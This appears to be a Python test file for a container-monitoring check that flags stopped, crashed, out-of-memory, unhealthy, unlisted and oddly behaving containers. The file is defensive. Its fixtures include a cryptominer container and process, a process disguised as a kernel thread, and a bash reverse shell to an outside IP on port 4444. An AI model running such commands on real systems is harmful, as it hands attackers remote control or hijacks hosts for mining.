"""containers.state: who runs, and what happened to them."""

from __future__ import annotations

from tests.tools.stage import ONSET, SCOPE, START, container, found, kinds, views, world
from tools.containers import QUESTION, StateArguments
from tools.findings import Finding
from tools.sources.containers import Container, ContainerEvent
from tools.sources.fakes import FakeContainers

MEMBERS = ("web-a", "web-b", "mill-1", "mill-2", "line-1", "oracle-1", "paint-1")
EVERYBODY = [container(n) for n in MEMBERS]
JADE = {START: views("jade")}


async def asked(engine: FakeContainers) -> tuple[Finding, ...]:
    answer = await QUESTION.ask(world(containers=engine, routing=JADE), SCOPE, StateArguments())
    return answer.findings


def but(**changed: dict[str, object]) -> list[Container]:
    return [container(n, **changed.get(n.replace("-", "_"), {})) for n in MEMBERS]


async def test_all_well_finds_nothing() -> None:
    """Everything runs as before: no finding."""
    assert await asked(FakeContainers(lists={START: EVERYBODY})) == ()


async def test_a_stopped_standby_is_idle_and_a_stopped_active_is_not_running() -> None:
    """Both workers are stopped: the waiting one is as declared, the active one is not."""
    off = {"state": "exited", "finished_ms": START - 10_000, "exit_code": 0}
    findings = await asked(FakeContainers(lists={START: but(mill_1=off, mill_2=off)}))
    assert found(findings, "idle_as_declared", container="mill-2", role="standby") is not None
    assert found(findings, "not_running", container="mill-1", role="active") is not None
    assert "stopped_in_window" not in kinds(findings)


async def test_a_deploy_that_recreates_the_standby_starts_it_in_the_window() -> None:
    """Created and started at the onset from another image: started_in_window, recreated, no restart."""
    before = but(mill_2={"state": "exited", "finished_ms": START - 1, "exit_code": 0})
    born = ONSET - 5_000
    after = but(mill_2={"created_ms": born, "started_ms": born, "image": "shop:8", "id": "new"})
    events = [
        ContainerEvent(born - 100, "destroy", "mill-2"),
        ContainerEvent(born, "create", "mill-2"),
        ContainerEvent(born, "start", "mill-2"),
    ]
    findings = await asked(FakeContainers(lists={START: before, born: after}, happened=events))
    started = found(findings, "started_in_window", container="mill-2", role="standby")
    assert started is not None
    assert started.strength == 1.0
    assert started.extra["recreated"] is True
    assert started.extra["was"] == "exited"
    assert kinds(findings) == {"started_in_window"}


async def test_a_crash_loop_is_restarts_and_an_exit_code() -> None:
    """Three deaths with code 1 from which it came back by itself: restarted at full strength."""
    events = [
        e
        for i in range(3)
        for e in (
            ContainerEvent(ONSET + i * 20_000, "die", "mill-1", exit_code=1),
            ContainerEvent(ONSET + i * 20_000 + 900, "start", "mill-1"),
        )
    ]
    lists = {START: EVERYBODY, ONSET: but(mill_1={"started_ms": ONSET + 40_900, "restart_count": 3})}
    findings = await asked(FakeContainers(lists=lists, happened=events))
    again = found(findings, "restarted", container="mill-1")
    assert again is not None
    assert (again.value, again.strength) == (3.0, 1.0)
    exited = found(findings, "exited", container="mill-1")
    assert exited is not None
    assert (exited.value, exited.strength) == (1.0, 1.0)


async def test_a_stop_that_was_asked_for_is_no_crash() -> None:
    """docker stop ends in KILL after ten seconds: code 137, but asked for."""
    events = [
        ContainerEvent(ONSET, "kill", "paint-1"),
        ContainerEvent(ONSET + 10_050, "die", "paint-1", exit_code=137),
        ContainerEvent(ONSET + 10_060, "stop", "paint-1"),
    ]
    gone = but(paint_1={"state": "exited", "finished_ms": ONSET + 10_050, "exit_code": 137})
    findings = await asked(FakeContainers(lists={START: EVERYBODY, ONSET: gone}, happened=events))
    exited = found(findings, "exited", container="paint-1")
    assert exited is not None
    assert exited.strength < 0.5
    assert found(findings, "stopped_in_window", container="paint-1") is not None


async def test_oom_unhealthy_unlisted_and_gone() -> None:
    """Memory kill, failing health check, a stranger and a listed container the engine does not know."""
    now = but(line_1={"oom_killed": True, "started_ms": ONSET, "finished_ms": ONSET - 1}, web_a={"health": "unhealthy"})
    now = [c for c in now if c.name != "mill-1"] + [container("xm-77", image="miner:latest", started_ms=ONSET)]
    findings = await asked(
        FakeContainers(lists={START: EVERYBODY, ONSET: now}, happened=[ContainerEvent(ONSET - 1, "oom", "line-1")])
    )
    assert found(findings, "oom_killed", container="line-1") is not None
    assert found(findings, "unhealthy", container="web-a") is not None
    stranger = found(findings, "unlisted_container", container="xm-77")
    assert stranger is not None
    assert stranger.extra["new"] is True
    missing = found(findings, "not_running", container="mill-1")
    assert missing is not None
    assert missing.detail == "gone"


async def test_a_process_its_past_and_its_peers_do_not_have_is_odd() -> None:
    """A shell that mines inside web-a is odd; another pid or path of the usual program is not."""
    usual = {"web-a": ["python3 web.py --port 80"], "web-b": ["/usr/bin/python3 web.py --port 81"]}
    later = {"web-a": ["python3 web.py --port 80", "/tmp/.x/kdevtmp -o pool:3333"], "web-b": usual["web-b"]}
    findings = await asked(FakeContainers(lists={START: EVERYBODY}, tops={START: usual, ONSET: later}))
    odd = found(findings, "odd_process", container="web-a")
    assert odd is not None
    assert "kdevtmp" in odd.detail
    assert len(findings) == 1
    assert (odd.extra["alike"], odd.extra["disguised"]) == (False, True)


async def test_a_job_of_the_containers_own_program_is_told_from_a_strangers() -> None:
    """web-a runs another script of its usual interpreter; web-b runs what calls itself a kernel thread."""
    usual = {"web-a": ["python3.11 web.py"], "web-b": ["python3.11 web.py"]}
    later = {"web-a": ["python3.11 web.py", "/usr/bin/python3.12 -c import report"],
             "web-b": ["python3.11 web.py", "[kworker/u4:2-ev] -c import hashlib"]}
    findings = await asked(FakeContainers(lists={START: EVERYBODY}, tops={START: usual, ONSET: later}))
    for name, alike, disguised in (("web-a", True, False), ("web-b", False, True)):
        odd = found(findings, "odd_process", container=name)
        assert odd is not None
        assert (odd.extra["alike"], odd.extra["disguised"]) == (alike, disguised)


async def test_what_hides_is_told_without_a_past_to_compare_with() -> None:
    """No reading of the past and no peer: an unknown job is not odd by itself, a reverse shell is."""
    later = {"web-a": ["python3 web.py", "bash -i >& /dev/tcp/198.51.100.9/4444 0>&1"]}
    findings = await asked(FakeContainers(lists={START: EVERYBODY}, tops={ONSET: later}))
    assert [f.detail[:7] for f in findings if f.kind == "odd_process"] == ["bash -i"]
